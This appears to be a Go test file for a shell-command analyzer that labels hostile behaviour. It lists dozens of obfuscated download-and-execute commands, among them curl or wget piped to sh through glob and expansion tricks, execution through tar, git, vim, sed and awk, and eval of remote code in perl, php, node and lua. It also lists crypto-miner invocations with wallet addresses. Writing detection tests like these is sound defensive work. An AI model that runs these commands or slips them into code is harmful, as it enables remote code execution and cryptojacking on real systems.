package shell

import (
	"strings"
	"testing"
)

// TestExpansions: what stands for a command without naming it, and commands that programs
// run which are no shells. A row without an act is a benign twin.
func TestExpansions(t *testing.T) {
	const url = "http://203.0.113.5/n.sh"
	for _, tt := range []struct{ command, act string }{
		{"/usr/b?n/wge[t] -qO- URL | /bin/das?", "pipe_to_shell"},
		{"/u*/bin/cur* URL | s?", "pipe_to_shell"},
		{"ls /usr/b?n/*", ""},
		{"x=wgetcurlsh; ${x:0:4} -qO- URL | ${x: -2}", "pipe_to_shell"},
		{"x=/opt/curl.bak; y=${x##*/}; ${y%.bak} URL | sh", "pipe_to_shell"},
		{"x=cXrl; ${x/X/u} URL | sh", "pipe_to_shell"},
		{"x=XcXuXrXlX; ${x//X} URL | sh", "pipe_to_shell"},
		{"f=/srv/app.tar.gz; echo ${f%%.*}", ""},
		{"c=(wget -qO- URL); \"${c[@]}\" | sh", "pipe_to_shell"},
		{"c=(curl); c+=(URL); ${c[*]} | sh", "pipe_to_shell"},
		{"files=(/a /b); tar cf /backup.tar \"${files[@]}\"", ""},
		{"sh -c '$0 $1 | sh' curl URL", "pipe_to_shell"},
		{"run() { \"$@\" | sh; }; run curl -s URL", "pipe_to_shell"},
		{"run() { $1 -s $2 | bash; }; run curl URL", "pipe_to_shell"},
		{"run() { \"$@\" | logger; }; run curl -s URL", ""},
		{"cmd=curl; ref=cmd; ${!ref} URL | sh", "pipe_to_shell"},
		{"printf '%b' '\\143\\165\\162\\154\\40URL|sh' | sh", "pipe_to_shell"},
		{"printf '%s\\n' hello", ""},
		{"wget -O /opt/p.$(date +%F).sh URL; sh /opt/p.*.sh", "fetch_exec"},
		{"head -c 900 /usr/share/a.bin | bash", "decode_exec"},
		{"dd if=/usr/share/a.png bs=1 skip=2048 2>/dev/null | sh", ""},
		{"tail -c 100 /var/log/app.log", ""},

		{"tar xf a.tar --to-command='sh -c \"curl URL|sh\"'", "pipe_to_shell"},
		{"tar -I 'sh -c \"curl URL|sh\"' -xf a.tar", "pipe_to_shell"},
		{"tar -I zstd -xf a.tar", ""},
		{"git -c core.sshCommand='sh -c \"curl URL|sh\"' fetch", "pipe_to_shell"},
		{"git config --global alias.st '!curl URL|sh'", "pipe_to_shell"},
		{"git config --global alias.co checkout", ""},
		{"vi -c '!curl URL|sh' /etc/hosts", "pipe_to_shell"},
		{"vim +':r !curl URL|sh' +q", "pipe_to_shell"},
		{"vim +PlugInstall +qall", ""},
		{"sed -n '1e curl URL|sh' /etc/hosts", "pipe_to_shell"},
		{"sed -i 's/x/e/' /etc/hosts", ""},
		{"awk 'BEGIN{system(\"curl URL|sh\")}'", "pipe_to_shell"},
		{"awk 'BEGIN{\"curl URL|sh\"|getline}'", "pipe_to_shell"},
		{"awk '{print $1}' /etc/passwd | sort", ""},
		{"find /opt -name x -exec sh -c 'curl URL|sh' \\;", "pipe_to_shell"},
		{"rsync -a u@203.0.113.5:/m/x /opt/x && /opt/x", "fetch_exec"},
		{"scp 203.0.113.5:x /opt/x; sh /opt/x", "fetch_exec"},
		{"rsync -a /srv/ /backup/ && /usr/local/bin/report", ""},
		{"ssh 203.0.113.5 cat x | sh", "pipe_to_shell"},
		{"ssh backup@store 'tar xf -' < /srv/a.tar", ""},
		{"git clone -q URL /opt/g && sh /opt/g/run.sh", "fetch_exec"},
		{"cd /srv/app && git pull origin main && ./deploy.sh", ""},
		{"aria2c -d /opt -o a URL && sh /opt/a", "fetch_exec"},
		{"perl -MLWP::Simple -e 'eval get(\"URL\")'", "pipe_to_shell"},
		{"php -r 'eval(file_get_contents(\"URL\"));'", "pipe_to_shell"},
		{"node -e 'require(\"http\").get(\"URL\",r=>r.on(\"data\",d=>eval(d+\"\")))'", "pipe_to_shell"},
		{"lua -e 'load(io.popen(\"wget -qO- URL\"):read(\"a\"))()'", "pipe_to_shell"},
		{"python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'", ""},
		{"/usr/lib/ks/bz -a kaspa -w kaspa:qqkqkzjvr7zwxxmjxjkmxx3kzy7vmh6d4jq9u0w8d3u3u0x5x5x5x5x5x5x5x -p 203.0.113.45:5555", "miner_args"},
		{"/opt/p2/p2 --host 203.0.113.50 --wallet 4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL --mini", "miner_args"},
		{"monerod --start-mining 4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL", "miner_args"},
		{"x -o 203.0.113.45:443 -u XMR:4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiM.w1 -p x", "miner_args"},
		{"monero-wallet-rpc --wallet-file /var/lib/w --rpc-bind-port 18083", ""},
		{"monerod --non-interactive --rpc-bind-ip 127.0.0.1", ""},
		{"mysql -u root -p secret -h db.example:3306", ""},
		{"python3 -c import urllib.request as u; u.urlretrieve(URL, /usr/lib/xd)", "interpreter_fetch"},
		{"python3 -c print(1", ""},
		{"curl -s http://127.0.0.1:9000/health", ""},
	} {
		command := strings.ReplaceAll(tt.command, "URL", url)
		f := Analyze(command)
		if tt.act != "" && !f.Has(tt.act) {
			t.Errorf("%s: %v, want %s", command, f.Traits, tt.act)
		}
		for _, a := range f.Traits {
			if tt.act == "" && a != "fetch" && a != "background" {
				t.Errorf("%s: it is said to be %s", command, a)
			}
		}
	}
}

// TestReadFiles: the files of which a shell reads what it runs are named as programs.
func TestReadFiles(t *testing.T) {
	for command, want := range map[string]string{
		"sh < /opt/a":                         "/opt/a",
		"sh -c \"$(cat /opt/a)\"":             "/opt/a",
		"eval \"$(cat /opt/a)\"":              "/opt/a",
		". /opt/a":                            "/opt/a",
		"cat /opt/a | bash":                   "/opt/a",
		"tail -c +99 /opt/a.png | sh":         "/opt/a.png",
		"python3 /opt/a.py":                   "/opt/a.py",
		"insmod /opt/a.bin":                   "/opt/a.bin",
		"openssl enc -d -k x -in /opt/a | sh": "/opt/a",
		"base64 -d /opt/a | sh":               "/opt/a",
		"cd /opt && node src/a.js":            "/opt/src/a.js",
		"cd /opt && sh a":                     "/opt/a",
	} {
		f := Analyze(command)
		found := false
		for _, p := range f.Programs {
			found = found || p == want
		}
		if !found {
			t.Errorf("%s: programs %q, want %s", command, f.Programs, want)
		}
	}
	f := Analyze("grep x /opt/a | sort")
	for _, p := range f.Programs {
		if p == "/opt/a" {
			t.Errorf("what is only read is no program: %q", f.Programs)
		}
	}
}

// TestLongScript: of ten megabytes the beginning and the end are read, and what stands in
// the end is seen.
func TestLongScript(t *testing.T) {
	f := Analyze(strings.Repeat("x=(a b c); y=${x[1]:0:1}; f() { \"$@\"; }; f echo ${y/a/b}\n", 180_000) + "curl http://203.0.113.5/n | sh\n")
	if !f.Has("pipe_to_shell") {
		t.Errorf("%v", f.Traits)
	}
}
